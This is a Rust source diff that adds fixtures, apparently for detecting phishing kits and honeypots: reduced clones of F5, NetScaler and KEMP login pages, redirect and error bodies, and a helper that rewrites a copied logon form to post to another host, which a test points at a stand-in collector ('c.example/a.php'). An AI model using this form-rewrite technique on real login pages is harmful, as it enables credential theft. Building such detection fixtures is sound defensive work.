@@ -865,6 +865,142 @@ function onLoad() {
 </html>
 "##;
 
+/// A copied logon page whose form posts to `action` instead: the one edit every phishing kit
+/// makes (the first `<form action="…">` is rewritten).
+pub(crate) fn with_form_action(page: &str, action: &str) -> String {
+    const OPEN: &str = "<form action=\"";
+    let Some(start) = page.find(OPEN).map(|i| i + OPEN.len()) else {
+        return page.to_owned();
+    };
+    let end = page[start..].find('"').map_or(page.len(), |i| start + i);
+    format!(
+        "{}{}{}",
+        &page[..start],
+        action.replace('&', "&amp;"),
+        &page[end..]
+    )
+}
+
+/// BIG-IP APM's logon page at `/my.policy` (reduced to its form; the real one carries F5's
+/// scripts and the customised texts).
+pub(crate) const APM_LOGON: &str = r##"<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN">
+<html>
+<head>
+<title>Secure Logon</title>
+<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
+<link rel="stylesheet" type="text/css" href="/public/include/css/apm.css">
+<script src="/public/include/js/session_check.js?v=1"></script>
+</head>
+<body onload="OnLoad()">
+<table id="page_header"><tr><td id="header_leftcell"><img src="/public/images/my/flogo.png"></td></tr></table>
+<table id="main_table" class="logon_page"><tr><td id="main_table_info_cell">
+<form id="auth_form" name="e1" method="post" action="/my.policy" autocomplete="off">
+<table id="credentials_table">
+<tr><td colspan=2 id="credentials_table_header">Secure Logon <br> for F5 Networks</td></tr>
+<tr><td class="credentials_table_label_cell"><label for="input_1" id="label_input_1">Username</label></td>
+<td class="credentials_table_field_cell"><input type="text" name="username" class="credentials_input_text" value="" id="input_1" autocomplete="off" autocapitalize="off"></td></tr>
+<tr><td class="credentials_table_label_cell"><label for="input_2" id="label_input_2">Password</label></td>
+<td class="credentials_table_field_cell"><input type="password" name="password" class="credentials_input_password" value="" id="input_2" autocomplete="off" autocapitalize="off"></td></tr>
+<tr id="submit_row"><td class="credentials_table_unified_cell" colspan=2><input type="submit" class="credentials_input_submit" value="Logon"></td></tr>
+</table>
+<input type="hidden" name="vhost" value="standard">
+</form>
+</td></tr></table>
+<table id="page_footer"><tr><td>This product is licensed from F5 Networks. &copy; 1999-2024 F5 Networks. All rights reserved.</td></tr></table>
+</body>
+</html>
+"##;
+
+/// NetScaler AAA's logon point (reduced; the real page loads the Receiver-style UI by script).
+pub(crate) const NETSCALER_LOGON: &str = r##"<!DOCTYPE html>
+<html>
+<head>
+<meta http-equiv="X-UA-Compatible" content="IE=edge">
+<meta name="viewport" content="width=device-width, initial-scale=1.0">
+<title>NetScaler AAA</title>
+<link href="receiver/images/common/icon_vpn.ico" rel="SHORTCUT ICON" type="image/ico">
+<script type="text/javascript" src="/vpn/resources.js"></script>
+<script src="receiver/js/external/jquery.min.js"></script>
+<script type="text/javascript" src="receiver/js/ctxs.core.min.js"></script>
+<script type="text/javascript" src="receiver/js/ctxs.webui.min.js"></script>
+</head>
+<body class="largeTiles">
+<noscript>Your browser must have JavaScript enabled.</noscript>
+</body>
+</html>
+"##;
+
+/// KEMP LoadMaster ESP's pre-authentication form (reduced).
+pub(crate) const KEMP_ESP_LOGON: &str = r##"<!DOCTYPE html>
+<html>
+<head>
+<meta charset="utf-8">
+<title>Log in</title>
+<link rel="stylesheet" href="/lm_auth_proxy?LMimage=espstyle.css">
+</head>
+<body>
+<div id="logon">
+<form method="post" action="/lm_auth_proxy?LMLogon" name="esp_logon">
+<p><label for="user">Username</label><input type="text" name="user" id="user" autocomplete="off"></p>
+<p><label for="pass">Password</label><input type="password" name="pass" id="pass" autocomplete="off"></p>
+<p><input type="submit" value="Log In"></p>
+</form>
+</div>
+</body>
+</html>
+"##;
+
+/// Go's `http.Redirect` body for a GET (oauth2-proxy).
+pub(crate) fn go_found(location: &str) -> String {
+    format!(
+        "<a href=\"{}\">Found</a>.\n\n",
+        location.replace('&', "&amp;")
+    )
+}
+
+/// NetScaler's body for its `302 Object Moved`.
+pub(crate) fn netscaler_moved(location: &str) -> String {
+    format!(
+        "<html><head><title> Object Moved</title></head><body><h1>Object Moved</h1>This object \
+         may be found <a HREF=\"{location}\">here</a>.</body></html>"
+    )
+}
+
+/// Express's `res.redirect` body (text/plain).
+pub(crate) fn express_found(location: &str) -> String {
+    format!("Found. Redirecting to {location}")
+}
+
+/// Express's (finalhandler's) 404 page.
+pub(crate) fn express_not_found(method: &str, path: &str) -> String {
+    format!(
+        "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n<title>Error</title>\n\
+         </head>\n<body>\n<pre>Cannot {method} {path}</pre>\n</body>\n</html>\n"
+    )
+}
+
+/// Werkzeug's redirect body (Flask's `redirect`).
+pub(crate) fn werkzeug_redirect(location: &str) -> String {
+    let escaped = location.replace('&', "&amp;");
+    format!(
+        "<!doctype html>\n<html lang=en>\n<title>Redirecting...</title>\n<h1>Redirecting...</h1>\n\
+         <p>You should be redirected automatically to the target URL: <a href=\"{escaped}\">\
+         {escaped}</a>. If not, click the link.\n"
+    )
+}
+
+/// Werkzeug's 500 page: what joda32/owa-honeypot answers for an unknown path, whose 404
+/// handler renders a `404.html` template the project does not ship.
+pub(crate) const WERKZEUG_500: &str =
+    "<!doctype html>\n<html lang=en>\n<title>500 Internal Server \
+     Error</title>\n<h1>Internal Server Error</h1>\n<p>The server encountered an internal error \
+     and was unable to complete your request. Either the server is overloaded or there is an \
+     error in the application.</p>\n";
+
+/// The body of joda32/owa-honeypot's Basic-auth challenge.
+pub(crate) const HONEYPOT_401: &str =
+    "Could not verify your access level for that URL.\nYou have to login with proper credentials";
+
 /// The error page; `resources` is the versioned theme folder, `details` the HTML shown under
 /// "More details".
 pub(crate) fn error_fe(resources: &str, product: &str, details: &str) -> String {
@@ -939,10 +1075,28 @@ mod tests {
             exporttool_manifest("15.2.1748.10", 18_000, "AAAA", "00ff"),
             nginx_error("404 Not Found"),
             apache_error("404 Not Found", "Not Found", "x", "www.a.example"),
+            express_not_found("GET", "/x"),
+            werkzeug_redirect("/owa/auth/logon.aspx?replaceCurrent=1&url="),
         ];
         for page in pages {
             assert!(!page.contains("{{"), "{page}");
         }
+    }
+
+    #[test]
+    fn kits_rewrite_the_form_and_nothing_else() {
+        let page = logon_15("15.1.2507", LogonFlavour::Outlook, "https://x/owa/");
+        let kit = with_form_action(&page, "https://c.example/a.php?x=1&y=2");
+        assert!(kit.contains(
+            "<form action=\"https://c.example/a.php?x=1&amp;y=2\" method=\"POST\" name=\"logonForm\""
+        ));
+        assert!(!kit.contains("/owa/auth.owa"));
+        assert_eq!(
+            kit.len() - page.len(),
+            "https://c.example/a.php?x=1&amp;y=2".len() - 13
+        );
+        let old = with_form_action(&logon_2010("14.3.123.3", "https://x/owa/"), "next.php");
+        assert!(old.contains("<form action=\"next.php\" method=\"POST\""));
     }
 
     #[test]
